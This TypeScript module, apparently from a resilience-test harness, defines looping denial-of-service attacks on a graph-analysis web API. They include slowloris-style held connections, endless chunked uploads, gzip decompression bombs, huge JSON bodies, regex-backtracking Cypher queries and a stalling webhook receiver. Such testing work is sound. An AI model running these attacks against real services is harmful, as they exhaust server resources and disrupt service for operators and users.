/** Attacks on the service, each in a loop until it is stopped. None needs rights. */
import { randomUUID } from 'node:crypto';
import { once } from 'node:events';
import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { repeat as repeatWork } from '../harness/scenario.ts';

export interface Target {
  readonly url: string;
  /** The public half of a token of a real user. */
  readonly tokenId: string;
  /** A job that accepts files. */
  readonly jobId: number;
  /** Session of a real user, for attacks that need one. */
  readonly bearer: string;
  /** Session of a user with read access only. */
  readonly readerBearer: string;
  readonly signal: AbortSignal;
}

async function open({ url }: Target): Promise<Socket | undefined> {
  const { hostname, port } = new URL(url);
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  return Promise.race([
    once(socket, 'connect').then(() => socket),
    once(socket, 'close').then(() => undefined),
  ]).catch(() => undefined);
}

const signedHead = ({ tokenId, jobId }: Target, more: string): string =>
  [
    `POST /api/v2/file-upload/${jobId} HTTP/1.1`,
    'Host: x',
    `Authorization: bhesignature ${tokenId}`,
    `RequestDate: ${new Date().toISOString()}`,
    `Signature: ${Buffer.alloc(32, Math.floor(Math.random() * 256)).toString('base64')}`,
    'Content-Type: application/json',
    more,
    '\r\n',
  ].join('\r\n');

/** Failed attacks are repeated. */
const repeat = ({ signal }: Target, pauseMs: number, attack: () => Promise<unknown>): Promise<void> =>
  repeatWork(signal, pauseMs, () => attack().catch(() => {}));

const CHUNK = Buffer.concat([Buffer.from('10000\r\n'), Buffer.alloc(65_536, 'x'), Buffer.from('\r\n')]);
const BOMB = gzipSync(Buffer.alloc(64 * 1024 * 1024));

/** One step of the engine takes hours, without checking a deadline. */
const ENDLESS_TEXT = "WITH reduce(s = 'a', x IN range(1, 23) | s + s) AS b";

function asker({ url, signal }: Target, bearer: string) {
  return async (method: string, path: string, body?: object, more: Record<string, string> = {}) => {
    const headers = { authorization: `Bearer ${bearer}`, 'content-type': 'application/json', ...more };
    const answer = await fetch(`${url}/api/v2/${path}`, {
      ...{ method, headers, signal },
      ...(body && { body: JSON.stringify(body) }),
    });
    return (await answer.json().catch(() => ({}))) as { data?: { id?: string | number } };
  };
}

export const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  /** Chunked bodies without an end, with an invalid signature. */
  'forged uploads': (target) =>
    repeat(target, 50, async () => {
      const socket = await open(target);
      socket?.write(signedHead(target, 'Transfer-Encoding: chunked'));
      for (let n = 0; n < 8000 && socket?.writable && !target.signal.aborted; n++) {
        if (!socket.write(CHUNK)) await sleep(10);
      }
      socket?.destroy();
    }),

  /** Bodies that grow a thousandfold when decoded. */
  'compressed bombs': (target) =>
    repeat(target, 100, async () => {
      const headers = { 'content-encoding': 'gzip', 'content-type': 'application/json' };
      await fetch(`${target.url}/api/v2/login`, {
        method: 'POST',
        headers,
        body: BOMB,
        signal: target.signal,
      });
      await fetch(`${target.url}/api/v2/file-upload/${target.jobId}`, {
        method: 'POST',
        headers: { ...headers, authorization: `Bearer ${target.bearer}` },
        body: BOMB,
        signal: target.signal,
      });
    }),

  /** Signed requests whose bodies never arrive. */
  'held-back bodies': async (target) => {
    const held: Socket[] = [];
    await repeat(target, 20, async () => {
      const socket = await open(target);
      if (socket === undefined) return;
      socket.write(signedHead(target, 'Content-Length: 60000'));
      held.push(socket);
      if (held.length > 300) held.shift()?.destroy();
    });
    for (const socket of held) socket.destroy();
  },

  /** Unfinished requests, and connections that are never closed. */
  'half requests': async (target) => {
    const held: Socket[] = [];
    await repeat(target, 5, async () => {
      const socket = await open(target);
      if (socket === undefined) return;
      socket.allowHalfOpen = true;
      socket.write('GET /healthz HTTP/1.1\r\nX-Slow: ');
      held.push(socket);
      if (held.length > 1500) held.shift()?.destroy();
    });
    for (const socket of held) socket.destroy();
  },

  /** Exports of which nothing is read, and which are closed after a while. */
  'exports that are left': (target) =>
    repeat(target, 300, async () => {
      const leaving = new AbortController();
      const timer = setTimeout(() => leaving.abort(), 1000);
      await fetch(`${target.url}/api/v2/graphs/export?kind=Domain`, {
        headers: { authorization: `Bearer ${target.bearer}` },
        signal: AbortSignal.any([leaving.signal, target.signal]),
      }).catch(() => {});
      clearTimeout(timer);
    }),

  /** Different wrong credentials each time. */
  'wrong credentials': (target) =>
    repeat(target, 10, async () => {
      await fetch(`${target.url}/api/v2/self`, {
        headers: { authorization: `Bearer ${randomUUID()}` },
        signal: target.signal,
      });
    }),

  /** Bodies that are slow to parse or to check. */
  'large JSON': (target) =>
    repeat(target, 100, async () => {
      const send = (path: string, body: string) =>
        fetch(target.url + path, {
          method: 'POST',
          headers: { authorization: `Bearer ${target.bearer}`, 'content-type': 'application/json' },
          body,
          signal: target.signal,
        }).catch(() => {});
      const members = Array.from({ length: 90_000 }, (_, n) => `"k${n}":1`).join();
      await send('/api/v2/asset-group-tags/1/selectors', `{${members}}`);
      await send(
        '/api/v2/asset-group-tags/certifications',
        `{"member_ids":[${'1,'.repeat(400_000)}1],"action":1}`,
      );
      await send('/api/v2/graphs/cypher', `{"query":"${'('.repeat(60_000)}"}`);
    }),

  /** Files that are slow to read. */
  'hostile files': (target) =>
    repeat(target, 1000, async () => {
      const headers = { authorization: `Bearer ${target.bearer}`, 'content-type': 'application/json' };
      const post = (path: string, body?: string) =>
        fetch(target.url + path, { method: 'POST', headers, body, signal: target.signal });
      const started = (await (await post('/api/v2/file-upload/start')).json()) as { data: { id: number } };
      const { id } = started.data;
      const elements = `{"a":1},{"a":1}${',{}'.repeat(100_000)}`;
      await post(`/api/v2/file-upload/${id}`, `{"data":[${elements}],"meta":{"type":"users","version":6}}`);
      await post(`/api/v2/file-upload/${id}/end`);
    }),

  /** Several simultaneous queries that do not end by themselves, and whose client disconnects. */
  'hostile Cypher': (target) => {
    const ask = asker(target, target.readerBearer);
    const query = `${ENDLESS_TEXT} RETURN b =~ '(.*a){200}b'`;
    return repeat(target, 50, async () => {
      const asked = [1, 2, 3].map(() => ask('POST', 'graphs/cypher', { query }, { prefer: 'wait=3' }));
      await Promise.allSettled(asked);
    });
  },

  /** A selector that does not end by itself, changed repeatedly so that it is always evaluated again. */
  'hostile selector': async (target) => {
    const ask = asker(target, target.bearer);
    const value = (n: number) => `${ENDLESS_TEXT} MATCH (n:Group) WHERE b =~ '(.*a){${800 + n}}b' RETURN n`;
    const path = 'asset-group-tags/1/selectors';
    let n = 0;
    const made = await ask('POST', path, { name: 'endless', seeds: [{ type: 2, value: value(n) }] });
    await repeat(target, 20_000, () =>
      ask('PATCH', `${path}/${made.data?.id}`, { seeds: [{ type: 2, value: value(++n) }] }),
    );
    await fetch(`${target.url}/api/v2/${path}/${made.data?.id}`, {
      method: 'DELETE',
      headers: { authorization: `Bearer ${target.bearer}` },
    });
  },

  /** A webhook receiver that changes the protocol, and then sends nothing. */
  '101 receiver': async (target) => {
    const held = new Set<Socket>();
    const server = createServer((socket) => {
      held.add(socket);
      socket.on('error', () => {});
      socket.once('close', () => held.delete(socket));
      socket.once('data', () =>
        socket.write('HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n'),
      );
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    const ask = asker(target, target.bearer);
    const { data } = await ask('POST', 'webhooks', { name: '101', url, event_types: ['job.failed'] });
    await repeat(target, 1_000, () => ask('POST', `webhooks/${data?.id}/test`));
    server.close();
    for (const socket of held) socket.destroy();
  },
};
